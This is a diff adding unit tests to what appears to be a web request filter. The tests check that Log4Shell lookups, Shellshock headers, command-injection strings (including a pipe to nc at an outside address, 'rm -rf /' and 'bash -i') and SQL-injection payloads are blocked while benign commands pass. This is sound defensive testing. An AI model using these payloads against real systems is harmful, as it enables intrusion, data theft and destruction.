@@ -52,6 +52,42 @@ private Q_SLOTS:
         QCOMPARE(verdict.hits.front().attackClass, AttackClass::NoSql);
     }
 
+    /// Servers log headers whatever their use is; of those that are the transport's only what a log or a shell would run counts.
+    void headersOfTheTransport_lookupsAndFunctionsAreSeen()
+    {
+        for (const char* name : {"Host", "If-Modified-Since", "Authorization", "Signature", "Transfer-Encoding", "X-Anything"}) {
+            QVERIFY2(inspect(PartKind::Header, "${${lower:j}ndi:dns://a}", {}, name).blocked, name);
+            QVERIFY2(inspect(PartKind::Header, "() { :;}; /bin/id", {}, name).blocked, name);
+        }
+        QVERIFY(inspect(PartKind::Header, "sig=(\"a\" \"b\");x='{' or 1=1", {}, "Signature-Input").hits.empty());
+    }
+
+    /// The same words in a query, where a command may be behind, and where somebody writes about them.
+    void linesOfCommands_passWhereTheyAreWritten()
+    {
+        for (const char* line : {"cat notes.txt | wc -l", "du -sh * | sort -h", "cd ../src && make", "ls -la; cd /tmp",
+                                 "RUN apk add --no-cache curl && rm -rf /var/cache/apk/*", "name;id", "host;id;date"})
+            QVERIFY2(!inspect(PartKind::Text, line).blocked, line);
+        for (const char* line : {"x | wc -l /etc/passwd", "x;cat a.txt", "ls -la; rm -rf /", "cat a.txt | nc 203.0.113.4 80",
+                                 "x;id", "ls -la; whoami", "ls -la; bash -i", "x;a=id;$a", "x;command whoami", "x;w'h'o'a'm'i"})
+            QVERIFY2(inspect(PartKind::Text, line).blocked, line);
+    }
+
+    void statements_passWhereTheyAreShown_notBehindAValue()
+    {
+        for (const char* shown : {"CREATE TABLE invoice (id INTEGER PRIMARY KEY, total NUMERIC(10,2) NOT NULL);",
+                                  "SELECT city, COUNT(*) FROM customers GROUP BY city HAVING COUNT(*) > 5;",
+                                  "UPDATE products SET price = price * 1.05 WHERE category = 'tools';",
+                                  "ALTER TABLE orders ADD COLUMN note TEXT; CREATE INDEX ON orders (note);",
+                                  "WITH t AS (SELECT * FROM orders WHERE placed > now()) SELECT count(*) FROM t;"})
+            QVERIFY2(!inspect(PartKind::Text, shown).blocked, shown);
+        for (const char* slipped :
+             {"1; CREATE TABLE x (id int)", "SELECT password FROM users WHERE id = 1",
+              "SELECT name FROM sqlite_master WHERE type = 'table'", "x'; UPDATE users SET a = 1 WHERE 1=1; --",
+              "SELECT a FROM t WHERE b = 1 UNION SELECT sql FROM sqlite_master"})
+            QVERIFY2(inspect(PartKind::Text, slipped).blocked, slipped);
+    }
+
     void member_isNamedAsItIsMeant_howeverItCame()
     {
         QCOMPARE(inspect(PartKind::Query, "pass%5b%24ne%5d=1").hits.front().member, std::string("pass[$ne]"));
